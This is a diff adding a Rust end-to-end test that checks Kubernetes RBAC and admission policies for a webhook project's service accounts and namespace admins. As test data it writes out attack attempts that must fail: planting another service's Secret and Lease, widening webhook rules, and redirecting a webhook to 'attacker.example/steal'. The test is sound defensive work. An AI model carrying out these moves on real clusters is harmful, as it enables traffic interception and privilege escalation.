@@ -1,0 +1,418 @@
+//! What the overlays let this project's own service accounts and a namespace admin do, applied
+//! for real (`kustomize/all`: RBAC, the shipped Secrets and Leases, the ValidatingAdmission-
+//! Policies; of the webhook configurations only registry-webhook's, whose rules touch nothing
+//! this test creates) and exercised through the real API server by impersonation:
+//!
+//! - no service account can create a Secret or a Lease, so none can plant another service's
+//!   (registry-webhook's account tried `quota-state-certificates` and the `quota-state` Lease);
+//!   each still updates its own;
+//! - a service account may change the caBundle of its own webhook configurations and nothing
+//!   else of them (rules, address);
+//! - quota-state may change an ElasticQuota's `child-request` annotation and nothing else;
+//! - only administrators may set a namespace's `admission-webhooks.io/exclude` label;
+//! - the cert-manager variant of scheduling-webhook still lets it read the client certificate
+//!   quota-state's side issues to it, and mounts every file its flags name.
+
+use std::path::Path;
+use std::process::Command;
+
+use e2e::Env;
+use k8s_openapi::api::admissionregistration::v1::ValidatingWebhookConfiguration;
+use k8s_openapi::api::coordination::v1::Lease;
+use k8s_openapi::api::core::v1::{Namespace, Secret};
+use kube::api::{Api, DynamicObject, Patch, PatchParams, PostParams};
+use kube::core::GroupVersionKind;
+use serde::Deserialize;
+use serde_json::json;
+
+const NS: &str = "admission-webhooks";
+
+fn render(overlay: &str) -> Vec<DynamicObject> {
+    let bins = testenv::tools::locate().unwrap_or_else(|e| panic!("{e}"));
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
+    let out = Command::new(&bins.kustomize)
+        .arg("build")
+        .arg(root.join(overlay))
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_yaml_ng::Deserializer::from_str(std::str::from_utf8(&out.stdout).unwrap())
+        .map(|d| DynamicObject::deserialize(d).unwrap())
+        .collect()
+}
+
+/// Creates (or replaces) `obj` for real.
+async fn apply(client: &kube::Client, obj: &DynamicObject) {
+    let tm = obj.types.clone().unwrap();
+    let (group, version) = tm
+        .api_version
+        .rsplit_once('/')
+        .unwrap_or(("", tm.api_version.as_str()));
+    let (ar, caps) =
+        kube::discovery::pinned_kind(client, &GroupVersionKind::gvk(group, version, &tm.kind))
+            .await
+            .unwrap_or_else(|e| panic!("{}: {e}", tm.kind));
+    let api: Api<DynamicObject> = match caps.scope {
+        kube::discovery::Scope::Namespaced => Api::namespaced_with(
+            client.clone(),
+            obj.metadata.namespace.as_deref().unwrap(),
+            &ar,
+        ),
+        _ => Api::all_with(client.clone(), &ar),
+    };
+    let name = obj.metadata.name.clone().unwrap();
+    let pp = PatchParams::apply("e2e-access").force();
+    api.patch(&name, &pp, &Patch::Apply(obj))
+        .await
+        .unwrap_or_else(|e| panic!("{} {name}: {e}", tm.kind));
+}
+
+/// A client acting as `user` in `groups`.
+async fn as_user(user: &str, groups: &[&str]) -> kube::Client {
+    let shared = testenv::shared().unwrap();
+    let kc = kube::config::Kubeconfig::read_from(&shared.kubeconfig).unwrap();
+    let mut cfg =
+        kube::Config::from_custom_kubeconfig(kc, &kube::config::KubeConfigOptions::default())
+            .await
+            .unwrap();
+    cfg.auth_info.impersonate = Some(user.to_owned());
+    cfg.auth_info.impersonate_groups = Some(groups.iter().map(|g| (*g).to_owned()).collect());
+    kube::Client::try_from(cfg).unwrap()
+}
+
+async fn service_account(name: &str) -> kube::Client {
+    as_user(
+        &format!("system:serviceaccount:{NS}:{name}"),
+        &[
+            "system:serviceaccounts",
+            &format!("system:serviceaccounts:{NS}"),
+            "system:authenticated",
+        ],
+    )
+    .await
+}
+
+/// The API error of `r`: (code, message); panics when it succeeded.
+fn refused<T>(r: Result<T, kube::Error>, what: &str) -> (u16, String) {
+    match r {
+        Err(kube::Error::Api(e)) => (e.code, e.message),
+        Err(e) => panic!("{what}: {e}"),
+        Ok(_) => panic!("{what}: allowed"),
+    }
+}
+
+fn merge(v: serde_json::Value) -> Patch<serde_json::Value> {
+    Patch::Merge(v)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn service_accounts_and_namespace_admins_get_only_what_they_need() {
+    let env = Env::new("e2e-access").await;
+    env.install_crds(&scheduling_webhook::app()).await;
+    let objects = render("kustomize/all");
+    for o in &objects {
+        let kind = o.types.as_ref().unwrap().kind.as_str();
+        let name = o.metadata.name.as_deref().unwrap_or_default();
+        if kind.ends_with("WebhookConfiguration") && name != "registry-webhook" {
+            continue;
+        }
+        apply(&env.client, o).await;
+    }
+    let pp = PostParams::default();
+
+    // 1. Planting another service's Secret or Lease: no account may create either.
+    let registry = service_account("registry-webhook").await;
+    let secrets: Api<Secret> = Api::namespaced(registry.clone(), NS);
+    let leases: Api<Lease> = Api::namespaced(registry.clone(), NS);
+    let planted: Secret = serde_json::from_value(json!({
+        "metadata": {"name": "quota-state-certificates-2"},
+        "stringData": {"ca.crt": "attacker's"}
+    }))
+    .unwrap();
+    let (code, _) = refused(secrets.create(&pp, &planted).await, "create a Secret");
+    assert_eq!(code, 403);
+    let lease: Lease =
+        serde_json::from_value(json!({"metadata": {"name": "quota-state-2"}})).unwrap();
+    let (code, _) = refused(leases.create(&pp, &lease).await, "create a Lease");
+    assert_eq!(code, 403);
+    let plant = merge(json!({"stringData": {"ca.crt": "attacker's"}}));
+    let (code, _) = refused(
+        secrets
+            .patch("quota-state-certificates", &PatchParams::default(), &plant)
+            .await,
+        "write quota-state's Secret",
+    );
+    assert_eq!(code, 403);
+    let (code, _) = refused(
+        leases
+            .patch(
+                "quota-state",
+                &PatchParams::default(),
+                &merge(json!({"spec": {"holderIdentity": "attacker"}})),
+            )
+            .await,
+        "take quota-state's Lease",
+    );
+    assert_eq!(code, 403);
+    // Its own, shipped empty, it fills (update) and holds.
+    let mut own = secrets.get("registry-webhook-certificates").await.unwrap();
+    assert_eq!(
+        own.metadata.annotations.as_ref().unwrap()["admission-webhooks.io/owner"],
+        "registry-webhook"
+    );
+    own.string_data = Some([("ca.crt".to_owned(), "ours".to_owned())].into());
+    secrets
+        .replace("registry-webhook-certificates", &pp, &own)
+        .await
+        .unwrap();
+    leases
+        .patch(
+            "registry-webhook-certificates",
+            &PatchParams::default(),
+            &merge(json!({"spec": {"holderIdentity": "registry-webhook-0"}})),
+        )
+        .await
+        .unwrap();
+
+    // 2. Its own webhook configurations (RBAC: `patch` by name): the caBundle, nothing else.
+    let hooks: Api<ValidatingWebhookConfiguration> = Api::all(registry.clone());
+    let current = serde_json::to_value(hooks.get("registry-webhook").await.unwrap()).unwrap();
+    let with = |f: &dyn Fn(&mut serde_json::Value)| {
+        let mut v = current["webhooks"].clone();
+        for w in v.as_array_mut().unwrap() {
+            f(w);
+        }
+        merge(json!({ "webhooks": v }))
+    };
+    let patched = |p: Patch<serde_json::Value>| {
+        let hooks = hooks.clone();
+        async move {
+            hooks
+                .patch("registry-webhook", &PatchParams::default(), &p)
+                .await
+        }
+    };
+    patched(with(&|w| {
+        w["clientConfig"]["caBundle"] = json!("Y2EgYnVuZGxl")
+    }))
+    .await
+    .unwrap();
+    // The API server takes in new policies asynchronously: wait until a dry run is refused.
+    let wide = with(&|w| {
+        w["rules"] = json!([{"apiGroups": ["*"], "apiVersions": ["*"],
+        "resources": ["*"], "operations": ["*"], "scope": "*"}])
+    });
+    e2e::eventually(std::time::Duration::from_secs(30), || async {
+        let dry = PatchParams {
+            dry_run: true,
+            ..PatchParams::default()
+        };
+        match hooks.patch("registry-webhook", &dry, &wide).await {
+            Err(kube::Error::Api(e)) if e.code == 403 => Ok(()),
+            other => Err(format!("policy not in force yet: {:?}", other.map(|_| ()))),
+        }
+    })
+    .await;
+    for (what, changed) in [
+        (
+            "rules widened to */*",
+            with(&|w| {
+                w["rules"] = json!([{"apiGroups": ["*"], "apiVersions": ["*"],
+                    "resources": ["*"], "operations": ["*"], "scope": "*"}])
+            }),
+        ),
+        (
+            "sent elsewhere",
+            with(&|w| {
+                w["clientConfig"] = json!({"url": "https://attacker.example:443/steal",
+                    "caBundle": w["clientConfig"]["caBundle"].clone()})
+            }),
+        ),
+        (
+            "failure policy Ignore",
+            with(&|w| w["failurePolicy"] = json!("Ignore")),
+        ),
+    ] {
+        let (code, msg) = refused(patched(changed).await, what);
+        assert_eq!(code, 403, "{what}: {msg}");
+        assert!(
+            msg.contains("may change only the caBundle of its webhook configurations"),
+            "{what}: {msg}"
+        );
+    }
+
+    // 3. quota-state on ElasticQuotas: the usage annotation only.
+    let quota_ns = format!("{}-quotas", env.ns);
+    let ns: Namespace = serde_json::from_value(json!({"metadata": {"name": quota_ns,
+        "labels": {"admission-webhooks.io/exclude": "true"}}}))
+    .unwrap();
+    Api::<Namespace>::all(env.client.clone())
+        .create(&pp, &ns)
+        .await
+        .unwrap();
+    let ar = kube::api::ApiResource::erase::<scheduling_webhook::types::ElasticQuota>(&());
+    let eq: DynamicObject = serde_json::from_value(json!({
+        "apiVersion": "scheduling.sigs.k8s.io/v1alpha1", "kind": "ElasticQuota",
+        "metadata": {"name": "team", "annotations": {"team": "a"}},
+        "spec": {"max": {"cpu": "10"}}
+    }))
+    .unwrap();
+    Api::<DynamicObject>::namespaced_with(env.client.clone(), &quota_ns, &ar)
+        .create(&pp, &eq)
+        .await
+        .unwrap();
+    let quotas: Api<DynamicObject> =
+        Api::namespaced_with(service_account("quota-state").await, &quota_ns, &ar);
+    let usage = "quota.scheduling.koordinator.sh/child-request";
+    quotas
+        .patch(
+            "team",
+            &PatchParams::default(),
+            &merge(json!({"metadata": {"annotations": {usage: "{\"cpu\":\"1\"}"}}})),
+        )
+        .await
+        .unwrap();
+    for (what, patch) in [
+        ("spec.max", json!({"spec": {"max": {"cpu": "1000"}}})),
+        (
+            "another annotation",
+            json!({"metadata": {"annotations": {"team": "b"}}}),
+        ),
+        (
+            "a label",
+            json!({"metadata": {"labels": {"quota.scheduling.koordinator.sh/is-parent": "true"}}}),
+        ),
+    ] {
+        let (code, msg) = refused(
+            quotas
+                .patch("team", &PatchParams::default(), &merge(patch))
+                .await,
+            what,
+        );
+        assert_eq!(code, 403, "{what}: {msg}");
+        assert!(
+            msg.contains(
+                "may change only the quota.scheduling.koordinator.sh/child-request annotation"
+            ),
+            "{what}: {msg}"
+        );
+    }
+
+    // 4. The opt-out label: a namespace admin (who may patch namespaces) cannot set it.
+    let admin_role: DynamicObject = serde_json::from_value(json!({
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
+        "metadata": {"name": format!("{}-ns-admin", env.ns)},
+        "rules": [{"apiGroups": [""], "resources": ["namespaces"], "verbs": ["get", "patch", "update"]}]
+    }))
+    .unwrap();
+    apply(&env.client, &admin_role).await;
+    let binding: DynamicObject = serde_json::from_value(json!({
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
+        "metadata": {"name": format!("{}-ns-admin", env.ns)},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
+                    "name": format!("{}-ns-admin", env.ns)},
+        "subjects": [{"kind": "User", "name": "tenant-admin", "apiGroup": "rbac.authorization.k8s.io"}]
+    }))
+    .unwrap();
+    apply(&env.client, &binding).await;
+    let tenant: Api<Namespace> = Api::all(as_user("tenant-admin", &["system:authenticated"]).await);
+    let label = |v: serde_json::Value| {
+        merge(json!({"metadata": {"labels": {"admission-webhooks.io/exclude": v}}}))
+    };
+    let (code, msg) = refused(
+        tenant
+            .patch(&env.ns, &PatchParams::default(), &label(json!("true")))
+            .await,
+        "set the opt-out label",
+    );
+    assert_eq!(code, 403, "{msg}");
+    assert!(msg.contains("admission-webhooks.io/exclude"), "{msg}");
+    let (code, _) = refused(
+        tenant
+            .patch(&quota_ns, &PatchParams::default(), &label(json!(null)))
+            .await,
+        "remove the opt-out label",
+    );
+    assert_eq!(code, 403);
+    // Other labels are the admin's to set; administrators may set this one.
+    tenant
+        .patch(
+            &env.ns,
+            &PatchParams::default(),
+            &merge(json!({"metadata": {"labels": {"team": "a"}}})),
+        )
+        .await
+        .unwrap();
+    Api::<Namespace>::all(env.client.clone())
+        .patch(&env.ns, &PatchParams::default(), &label(json!("true")))
+        .await
+        .unwrap();
+
+    // 5. The cert-manager variant of scheduling-webhook: it still reads its quota-state client
+    // certificate, and every file a flag names is mounted.
+    let variant = render("kustomize/with-cert-manager/scheduling-webhook");
+    // As installed alone: only the variant's Roles and bindings of scheduling-webhook.
+    let roles: Api<k8s_openapi::api::rbac::v1::Role> = Api::namespaced(env.client.clone(), NS);
+    let bindings: Api<k8s_openapi::api::rbac::v1::RoleBinding> =
+        Api::namespaced(env.client.clone(), NS);
+    for r in roles.list(&Default::default()).await.unwrap() {
+        let name = r.metadata.name.unwrap_or_default();
+        if name.starts_with("scheduling-webhook") {
+            roles.delete(&name, &Default::default()).await.unwrap();
+            let _ = bindings.delete(&name, &Default::default()).await;
+        }
+    }
+    for o in variant.iter().filter(|o| {
+        let k = o.types.as_ref().unwrap().kind.as_str();
+        k == "Role" || k == "RoleBinding"
+    }) {
+        apply(&env.client, o).await;
+    }
+    let scheduling = service_account("scheduling-webhook").await;
+    let client_secret = Api::<Secret>::namespaced(scheduling, NS);
+    // RBAC takes in the new Role asynchronously.
+    e2e::eventually(std::time::Duration::from_secs(30), || async {
+        client_secret
+            .get("quota-state-client-scheduling-webhook")
+            .await
+            .map(|_| ())
+            .map_err(|e| e.to_string())
+    })
+    .await;
+    for d in variant
+        .iter()
+        .filter(|o| o.types.as_ref().unwrap().kind == "Deployment")
+    {
+        let spec = &d.data["spec"]["template"]["spec"];
+        for c in spec["containers"].as_array().unwrap() {
+            let mounts: Vec<&str> = c["volumeMounts"]
+                .as_array()
+                .map(|m| m.iter().filter_map(|m| m["mountPath"].as_str()).collect())
+                .unwrap_or_default();
+            let values = c["env"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .filter_map(|e| e["value"].as_str())
+                .chain(
+                    c["args"]
+                        .as_array()
+                        .into_iter()
+                        .flatten()
+                        .filter_map(|a| a.as_str()),
+                );
+            for v in values.filter(|v| v.starts_with("/etc/") || v.contains("=/etc/")) {
+                let path = v.rsplit('=').next().unwrap();
+                assert!(
+                    mounts.iter().any(|m| path.starts_with(m)),
+                    "{}: {path} is not mounted ({mounts:?})",
+                    d.metadata.name.as_deref().unwrap_or_default()
+                );
+            }
+        }
+    }
+}
